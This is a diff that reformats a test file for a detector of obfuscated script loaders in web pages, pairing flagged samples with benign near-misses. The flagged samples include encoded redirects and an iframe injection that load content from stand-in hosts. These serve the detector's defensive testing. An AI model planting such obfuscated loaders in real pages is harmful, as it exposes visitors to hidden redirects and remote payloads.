@@ -25,7 +25,9 @@ ruleTester(rule, {
     { page: script(`new Function("${hex(LOADER, '\\x')}")()`), message: 'loader' },
     { page: script(`setTimeout(atob('${base64("top.location='https://win.example.net/'")}'), 50)`), message: 'loader' },
     {
-      page: script(`document.write(String.fromCharCode(60,105,102,114,97,109,101) + unescape('${hex(' src="http://x.example.net/in">', '%')}'))`),
+      page: script(
+        `document.write(String.fromCharCode(60,105,102,114,97,109,101) + unescape('${hex(' src="http://x.example.net/in">', '%')}'))`,
+      ),
       message: 'loader',
     },
     {
@@ -38,8 +40,14 @@ ruleTester(rule, {
   notApplicable: ['<script src="/a.js"></script>', '<p>None</p>'],
   nearMiss: [
     { note: 'a mail address kept from collectors', body: script(`document.write(unescape('${hex(MAIL, '%')}'))`) },
-    { note: 'the same by character codes', body: script(`eval(String.fromCharCode(${codes(`document.write('${MAIL}')`)}))`) },
-    { note: 'a file of the own site', body: script(`document.write(unescape('${hex(TAG.replace('t.example.net', 'static.example.com'), '%')}'))`) },
+    {
+      note: 'the same by character codes',
+      body: script(`eval(String.fromCharCode(${codes(`document.write('${MAIL}')`)}))`),
+    },
+    {
+      note: 'a file of the own site',
+      body: script(`document.write(unescape('${hex(TAG.replace('t.example.net', 'static.example.com'), '%')}'))`),
+    },
     {
       note: 'the published snippet of ga.js',
       body: script(
@@ -50,9 +58,15 @@ ruleTester(rule, {
       note: 'a counter whose brackets and quotes are escaped',
       body: script(`document.write(unescape("%3Cscript%20src=%27//counter.example.net/c.js%27%3E%3C/script%3E"))`),
     },
-    { note: 'an address that is only hidden', body: script(`s.src = atob("${base64('https://ads.example.net/loader.js')}")`) },
+    {
+      note: 'an address that is only hidden',
+      body: script(`s.src = atob("${base64('https://ads.example.net/loader.js')}")`),
+    },
     { note: 'data', body: script(`start(JSON.parse(atob("${base64('{"location": "https://maps.example.net/"}')}")))`) },
-    { note: 'decoded code that loads nothing', body: script(`eval(atob("${base64('window.started = true; console.log(1)')}"))`) },
+    {
+      note: 'decoded code that loads nothing',
+      body: script(`eval(atob("${base64('window.started = true; console.log(1)')}"))`),
+    },
     { note: 'code on display', body: `<pre>eval(atob("${base64(LOADER)}"))</pre><script>1</script>` },
   ],
 });
